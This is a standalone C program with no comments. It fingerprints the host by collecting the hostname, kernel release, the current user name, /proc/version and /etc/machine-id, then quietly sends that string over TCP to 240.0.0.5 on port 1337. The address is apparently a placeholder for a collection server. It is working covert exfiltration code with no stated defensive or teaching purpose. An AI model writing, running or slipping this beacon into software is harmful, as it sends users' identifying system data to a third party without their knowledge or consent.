#include <arpa/inet.h>
#include <pwd.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/utsname.h>
#include <unistd.h>

int main(void) {
    char text[4096], version[512] = "", id[64] = "";
    struct utsname name;
    struct passwd *user = getpwuid(getuid());
    uname(&name);
    FILE *file = fopen("/proc/version", "r");
    if (file) { if (!fgets(version, sizeof version, file)) version[0] = 0; fclose(file); }
    file = fopen("/etc/machine-id", "r");
    if (file) { if (!fgets(id, sizeof id, file)) id[0] = 0; fclose(file); }
    snprintf(text, sizeof text, "%s|%s|%s|%s|%s", name.nodename, name.release, user ? user->pw_name : "?", version, id);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval limit = {3, 0};
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(1337)};
    inet_pton(AF_INET, "240.0.0.5", &to.sin_addr);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0 && write(fd, text, strlen(text)) < 0) return 0;
    close(fd);
    return 0;
}
